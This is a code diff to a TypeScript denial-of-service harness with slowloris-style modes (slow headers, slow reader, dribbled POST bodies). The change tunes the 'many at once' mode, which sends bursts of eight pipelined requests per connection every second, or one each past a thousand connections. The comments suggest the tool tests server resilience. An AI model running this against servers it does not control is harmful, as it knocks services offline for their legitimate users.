@@ -22,6 +22,9 @@ const AGAIN_MS = 5_000;
 /** Opened in a millisecond while the attack begins, before good callers call. */
 const AT_ONCE = 2;
 const DROP_MS = 200;
+/** What one connection of few asks for at once; of thousands it is one each, as more would be more than there is a processor for. */
+const BURST = 8;
+const MANY = 1_000;
 
 /** Attacks until the process ends; tells on stdout when all connections have been opened, or refused, once. */
 async function attack(it: Attack): Promise<void> {
@@ -48,14 +51,14 @@ async function keepOpen(it: Attack, localAddress: string, onOpened: () => void):
   }
 }
 
-function begin({ way, path, writesTo, headers }: Attack, socket: Socket): void {
+function begin({ way, connections, path, writesTo, headers }: Attack, socket: Socket): void {
   const head = (line: string, ...more: string[]) => [`${line} HTTP/1.1`, ...headers, ...more, ''].join('\r\n');
   const whole = `${head(`GET ${path}`)}\r\n`;
   const post = `${head(`POST ${writesTo}`, 'Content-Type: application/json', 'Content-Length: 1000')}\r\n{`;
   if (way === 'idle') socket.write(whole);
   else if (way === 'slow headers') socket.write(head(`GET ${path}`));
   else if (way === 'slow reader') socket.pause().write(whole.repeat(30));
-  else if (way === 'many at once') askAgain(socket, whole);
+  else if (way === 'many at once') askAgain(socket, whole.repeat(connections > MANY ? 1 : BURST));
   else socket.write(post);
   if (way !== 'slow reader') socket.resume();
   if (way !== 'drops of a body') return;
@@ -63,9 +66,9 @@ function begin({ way, path, writesTo, headers }: Attack, socket: Socket): void {
   socket.on('close', () => clearInterval(drops));
 }
 
-/** Eight at a time, and again when they are answered, with a pause as of a fast client. */
-function askAgain(socket: Socket, whole: string): void {
-  const ask = () => void (socket.writable && socket.write(whole.repeat(8)));
+/** Each second, all at once. */
+function askAgain(socket: Socket, requests: string): void {
+  const ask = () => void (socket.writable && socket.write(requests));
   const timer = setInterval(ask, 1_000);
   socket.on('close', () => clearInterval(timer));
   ask();
